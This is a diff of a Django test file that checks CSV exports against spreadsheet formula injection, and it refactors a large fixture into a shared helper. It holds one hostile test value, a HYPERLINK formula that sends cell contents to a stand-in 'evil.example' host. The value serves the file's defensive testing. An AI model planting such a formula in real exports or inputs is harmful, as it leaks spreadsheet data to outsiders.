@@ -9,22 +9,13 @@ cell may start a formula.
 import csv
 import io
 import zipfile
-from datetime import timedelta
 from decimal import Decimal, InvalidOperation
 
 import pytest
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
 
-from accounts import audit
-from catalog.models import ImportJob
-from common.clock import day_start, local_date
 from common.csvio import csv_text, safe_cell, unquote_cell
-from lifecycle.models import DataExport
-from orders.analytics.services import rollup_rebuild
-from orders.finance.models import LedgerEntry
-from orders.models import Visit
-from tests.common.hostile import hostile_shop_data
-from tests.factories import DiscountFactory, OrderFactory, OrderLineFactory, SKUFactory
+from tests.factories import OrderFactory
 
 pytestmark = pytest.mark.django_db
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
@@ -72,42 +63,8 @@ def test_the_orders_export_quotes_a_buyer_typed_formula(shop, owner_client):
 
 
 @pytest.fixture
-def hostile_shop(shop, owner, owner_client, django_capture_on_commit_callbacks, settings, tmp_path):
-    return hostile_shop_data(
-        text=HOSTILE,
-        shop=shop,
-        owner=owner,
-        owner_client=owner_client,
-        on_commit=django_capture_on_commit_callbacks,
-        settings=settings,
-        tmp_path=tmp_path,
-    )
-    today = local_date()
-    sku = SKUFactory(product__shop=shop, product__title=HOSTILE, product__brand="-brand")
-    order = OrderFactory(shop=shop, buyer_name=HOSTILE, placed_at=day_start(today))
-    OrderLineFactory(order=order, sku=sku, product=sku.product, title=HOSTILE)
-    Visit.objects.create(shop=shop, product=sku.product, visitor_key="v", source="live",
-                         occurred_at=day_start(today))  # fmt: skip
-    rollup_rebuild(start=today - timedelta(days=5), end=today)
-    LedgerEntry.objects.create(shop=shop, kind="adjustment", bucket="available",
-                               amount=Decimal("-1.00"), memo=HOSTILE)  # fmt: skip
-    DiscountFactory(shop=shop, name=HOSTILE, products=[sku.product])
-    audit.record(actor=owner, action="product.edited", shop=shop, target=sku.product,
-                 changes={"title": ("@old", HOSTILE)})  # fmt: skip
-    job = ImportJob.objects.create(shop=shop, filename="x.csv", file="x.csv",
-                                   errors=[{"row": 2, "column": "title", "message": HOSTILE}])  # fmt: skip
-    from orders.marketing.models import LivePin, LiveSession
-
-    held = day_start(today)
-    live = LiveSession.objects.create(shop=shop, title=HOSTILE, starts_at=held, started_at=held)
-    LivePin.objects.create(shop=shop, session=live, product=sku.product)
-    with django_capture_on_commit_callbacks(execute=True):
-        owner_client.post(reverse("lifecycle:export_list", kwargs={"shop_slug": shop.slug}))
-    return {
-        "import_job_id": job.pk,
-        "data_export_id": DataExport.objects.get(shop=shop).pk,
-        "livesession_id": live.pk,
-    }
+def hostile_shop(hostile_shop_holding):
+    return hostile_shop_holding(HOSTILE)
 
 
 @pytest.mark.parametrize(("name", "query"), CSV_DOWNLOADS, ids=[n for n, _ in CSV_DOWNLOADS])
